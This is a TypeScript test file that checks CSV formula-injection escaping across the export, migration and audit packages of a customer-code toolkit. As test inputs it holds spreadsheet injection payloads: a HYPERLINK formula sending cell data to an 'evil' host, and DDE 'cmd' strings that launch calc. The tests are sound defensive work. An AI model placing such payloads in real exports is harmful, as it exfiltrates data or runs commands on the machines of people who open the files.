import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Customer } from '@custcode/core';
import { buildFixPlan, fixPlanCsv } from '@custcode/audit';
import { crosswalkCsv, parseCrosswalk } from '@custcode/migrate';
import { importTableCsv } from '@custcode/migrate';
import type { CrosswalkRow } from '@custcode/migrate';
import { writeCsv } from '@custcode/export';
import { escapeFormula, unescapeFormula } from '@custcode/export';

/** The test's own reading of the documented rule, written independently of the implementation. */
const startsFormula = (value: string) => /^'*[=+\-@\t\r]/.test(value);
const arithmeticOnly = (value: string) => /^[+-][0-9 ()+.-]*$/.test(value);

async function csvCells(records: Array<Partial<Customer>>, options: { escapeFormulas?: boolean } = {}): Promise<string[][]> {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  async function* customers() {
    for (const record of records) yield { source: 's', erp: 'file', code: 'C1', name: 'n', status: 'active', raw: {}, ...record } as Customer;
  }
  await writeCsv(customers(), output, { fields: ['code', 'name', 'phone', 'category'], bom: false, ...options });
  return (parse(Buffer.concat(chunks).toString('utf8')) as string[][]).slice(1);
}

describe('escapeFormula', () => {
  it('neutralises the reported cells and keeps numbers and phone numbers readable', () => {
    expect(escapeFormula('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
    expect(escapeFormula("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
    expect(escapeFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(escapeFormula('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
    expect(escapeFormula('\t=1')).toBe("'\t=1");
    expect(escapeFormula('\r=1')).toBe("'\r=1");
    for (const plain of ['-5', '-12.50', '+86 10 1234 5678', '+1 (555) 123-4567', '-', '北京', 'KH-001', '010-62345678', '', "'quoted"]) expect(escapeFormula(plain)).toBe(plain);
    expect(escapeFormula("'=x")).toBe("''=x");
  });

  it('is reversed exactly by unescapeFormula, and leaves no cell a spreadsheet would run', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', ' ', '(', 'a', '北') }), (value) => {
        const escaped = escapeFormula(value);
        expect(unescapeFormula(escaped)).toBe(value);
        if (escaped === value) expect(!startsFormula(value) || arithmeticOnly(value)).toBe(true);
        else expect(escaped).toBe(`'${value}`);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('CSV files with the formula guard', () => {
  it('writeCsv escapes by default: each cell reads back as written or with one leading quote, and only where the rule says', async () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '1', ' ', 'x', ',', '"', '\n') });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.record({ name: text, phone: text, category: text }), { minLength: 1, maxLength: 10 }), async (records) => {
        const rows = await csvCells(records);
        rows.forEach((row, index) => {
          const record = records[index]!;
          [record.name, record.phone, record.category].forEach((original, column) => {
            const cell = row[column + 1]!;
            const escape = startsFormula(original) && !arithmeticOnly(original);
            expect(cell).toBe(escape ? `'${original}` : original);
          });
        });
      }),
      { numRuns: 200 },
    );
  });

  it('writeCsv with escapeFormulas: false writes the cells verbatim, for machine consumers', async () => {
    expect(await csvCells([{ name: '=1+1', category: '@SUM(' }], { escapeFormulas: false })).toEqual([['C1', '=1+1', '', '@SUM(']]);
  });

  it('the crosswalk escapes, and reads back the very codes and names on the next run', () => {
    const row: CrosswalkRow = {
      oldCode: '=A1', newCode: 'KH0001', decision: 'generated', reason: '', mergedInto: '', heldBy: '', review: '', name: "'=HYPERLINK(\"x\")",
      org: '-5', rowId: '', sourceStatus: 'active',
    };
    const csv = crosswalkCsv([row]);
    expect(csv).toContain(`'=A1,KH0001`);
    expect(csv).toContain(`"''=HYPERLINK(""x"")"`);
    expect(parseCrosswalk(csv)).toEqual([row]);
    expect(crosswalkCsv([row], { escapeFormulas: false })).toContain('\n=A1,KH0001');
  });

  it('import files and the fix plan escape too', async () => {
    const table = { layout: 'k3cloud' as const, fileBase: 'f', sheetName: 's', columns: ['FNumber', 'FName', 'FTEL'], rows: [['KH1', '=cmd|x', '+86 10 1234 5678']] };
    expect(parse(importTableCsv(table), { bom: true })).toEqual([['FNumber', 'FName', 'FTEL'], ['KH1', "'=cmd|x", '+86 10 1234 5678']]);
    expect(parse(importTableCsv(table, { escapeFormulas: false }), { bom: true })[1]).toEqual(['KH1', '=cmd|x', '+86 10 1234 5678']);
    const report = { duplicates: [{ code: 'K1', org: null, records: ['K1', 'K1'], names: ['a', '@SUM(A1)'], rowIds: ['1', '2'] }], missing: [], nearDuplicates: [], summary: { serialCoverage: [] } };
    const plan = await buildFixPlan(report as never);
    expect(parse(fixPlanCsv(plan), { bom: true })[1]).toContain("'@SUM(A1)");
  });
});
